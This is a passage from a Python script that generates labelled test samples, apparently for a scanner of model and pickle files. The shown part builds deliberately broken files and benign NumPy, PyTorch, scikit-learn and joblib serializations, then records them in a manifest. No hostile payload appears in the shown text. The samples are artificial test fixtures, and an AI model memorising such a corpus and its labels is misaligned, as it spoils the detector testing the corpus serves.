    write("broken/random.bin", bytes((i * 131 + 7) % 251 for i in range(4096)), "error", "random bytes as .bin")
    write("broken/lfs_pointer.pth", b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1234\n",
          "error", "Git LFS pointer instead of the weights")
    write("broken/docs.pt", b.getvalue(), "error", "zip without models named .pt")
    write("broken/text.npy", b"not numpy\n", "error", "text named .npy")
    write("broken/model.joblib.gz", gzip.compress(b"plain text\n"), "error", "gzip of text named .joblib.gz")


def gen_benign_numpy(np):
    import pickle
    rng = np.random.default_rng(0)
    arrays = {"f64": rng.random((4, 5)), "i32": np.arange(10, dtype=np.int32), "bool": np.array([True, False]),
              "c64": np.ones(3, dtype=np.complex64), "f16": np.zeros(7, dtype=np.float16),
              "struct": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]), "fortran": np.asfortranarray(rng.random((3, 2))),
              "str": np.array(["abc", "de"]), "u8": np.arange(256, dtype=np.uint8), "dt": np.array(["2024-01-01"], dtype="datetime64[D]")}
    for name, arr in arrays.items():
        b = io.BytesIO()
        np.save(b, arr, allow_pickle=False)
        benign(f"numpy_{name}.npy", b.getvalue(), "numeric .npy")
    for v in ((2, 0), (3, 0)):
        b = io.BytesIO()
        np.lib.format.write_array(b, arrays["f64"], version=v)
        benign(f"numpy_v{v[0]}.npy", b.getvalue(), f"numeric .npy v{v[0]}")
    b = io.BytesIO()
    np.savez(b, **arrays)
    benign("numpy_savez.npz", b.getvalue(), "npz stored")
    b = io.BytesIO()
    np.savez_compressed(b, **arrays)
    benign("numpy_savez_compressed.npz", b.getvalue(), "npz compressed")
    b = io.BytesIO()
    np.save(b, np.array([1, "a", None, {"k": 2}], dtype=object), allow_pickle=True)
    benign("numpy_object_plain.npy", b.getvalue(), "object .npy holding plain data")
    for proto in (2, 3, 4, 5):
        benign(f"numpy_pickled_p{proto}.pkl", pickle.dumps(list(arrays.values()) + [np.float64(1.5), np.int64(3),
               np.random.RandomState(0)], protocol=proto), f"pickled ndarrays protocol {proto}")


def gen_benign_torch(torch):
    def save(obj, rel, technique, **kw):
        b = io.BytesIO()
        torch.save(obj, b, **kw)
        benign(rel, b.getvalue(), technique)
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(), torch.nn.Flatten(),
                                torch.nn.Linear(4 * 6 * 6, 10), torch.nn.Dropout(0.1), torch.nn.LayerNorm(10))
    save(model.state_dict(), "torch_state_dict.pt", "torch state dict (zip)")
    save(model.state_dict(), "torch_state_dict_legacy.pt", "torch state dict (legacy)", _use_new_zipfile_serialization=False)
    for opt_cls in (torch.optim.Adam, torch.optim.SGD, torch.optim.AdamW):
        opt = opt_cls(model.parameters(), lr=0.01)
        model(torch.randn(2, 3, 8, 8)).sum().backward()
        opt.step()
        save(opt.state_dict(), f"torch_optimizer_{opt_cls.__name__}.pt", "optimizer state dict")
    tensors = {"f32": torch.randn(3, 3), "f16": torch.zeros(4, dtype=torch.float16), "bf16": torch.ones(2, dtype=torch.bfloat16),
               "i64": torch.arange(6).view(2, 3), "bool": torch.tensor([True, False]), "u8": torch.zeros(5, dtype=torch.uint8),
               "c64": torch.zeros(2, dtype=torch.complex64), "view": torch.arange(10)[2:5], "size": torch.Size([2, 3]),
               "param": torch.nn.Parameter(torch.ones(2)), "sparse": torch.eye(3).to_sparse(),
               "q": torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.quint8), "device": torch.device("cpu"),
               "dtype": torch.float32}
    save(tensors, "torch_tensors.pt", "tensors of many dtypes")
    save(tensors, "torch_tensors_legacy.pt", "tensors (legacy format)", _use_new_zipfile_serialization=False)
    save({"epoch": 3, "model": model.state_dict(), "opt": opt.state_dict(), "metrics": [0.5, 0.25]}, "torch_checkpoint.pt", "training checkpoint")
    save(model, "torch_full_model.pt", "whole nn.Module (torch.save(model))")
    import pickle
    benign("torch_pickled_tensor.pkl", pickle.dumps(torch.arange(4), protocol=2), "pickle.dumps(tensor) (nested torch.save bytes)")


def gen_benign_sklearn(np, joblib):
    import pickle
    from sklearn.datasets import make_classification
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.neighbors import KNeighborsClassifier
    X, y = make_classification(n_samples=80, n_features=6, random_state=0)
    models = {"pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]),
              "forest": RandomForestClassifier(n_estimators=3, random_state=0), "tree": DecisionTreeClassifier(random_state=0),
              "gbc": GradientBoostingClassifier(n_estimators=3, random_state=0), "knn": KNeighborsClassifier(3)}
    for name, m in models.items():
        m.fit(X, y)
        b = io.BytesIO()
        joblib.dump(m, b)
        benign(f"sklearn_{name}.joblib", b.getvalue(), "sklearn estimator via joblib")
        benign(f"sklearn_{name}_p4.pkl", pickle.dumps(m, protocol=4), "sklearn estimator via pickle")
    b = io.BytesIO()
    joblib.dump(models["pipeline"], b, protocol=2)
    benign("sklearn_pipeline_p2.joblib", b.getvalue(), "sklearn pipeline joblib protocol 2")
    arrays = {"a": np.arange(100_000, dtype=np.float32), "b": np.array([1, "mixed", None], dtype=object), "c": {"nested": np.eye(3)}}
    b = io.BytesIO()
    joblib.dump(arrays, b)
    benign("joblib_arrays.joblib", b.getvalue(), "joblib with numeric and object arrays")
    for tag, fn in compressors():
        benign(f"joblib_arrays_{tag}.joblib", fn(b.getvalue()), f"joblib {tag}-compressed")
    for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
        p = os.path.join(OUT, f"benign/joblib_native_{comp}.joblib")
        os.makedirs(os.path.dirname(p), exist_ok=True)
        joblib.dump(models["forest"], p, compress=(comp, 3))
        MANIFEST.append((f"benign/joblib_native_{comp}.joblib", "clean", f"joblib.dump compress={comp}"))


def main():
    os.makedirs(OUT, exist_ok=True)
    gen_names()
    gen_indirect()
    gen_stream()
    gen_containers()
    gen_benign_plain()
    try:
        import numpy as np
    except ImportError as e:
        np = None
        skip("numpy", f"numpy not importable: {e}")
    try:
        import joblib
    except ImportError as e:
        joblib = None
        skip("joblib", f"joblib not importable: {e}")
    if np is not None:
        gen_benign_numpy(np)
    if np is not None and joblib is not None:
        gen_joblib(np, joblib)
    try:
        import torch
        gen_benign_torch(torch)
    except ImportError as e:
        skip("torch", f"torch not importable: {e}")
    try:
        import sklearn  # noqa: F401
        if np is None or joblib is None:
            raise ImportError("needs numpy and joblib")
        gen_benign_sklearn(np, joblib)
    except ImportError as e:
        skip("sklearn", f"scikit-learn not importable: {e}")
    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        for row in MANIFEST:
            f.write("\t".join(row) + "\n")
    with open(os.path.join(OUT, "skipped.tsv"), "w") as f:
        for row in SKIPPED:
            f.write("\t".join(row) + "\n")
    print(f"wrote {len(MANIFEST)} samples to {OUT}; skipped groups: {[s[0] for s in SKIPPED]}")


if __name__ == "__main__":
    main()
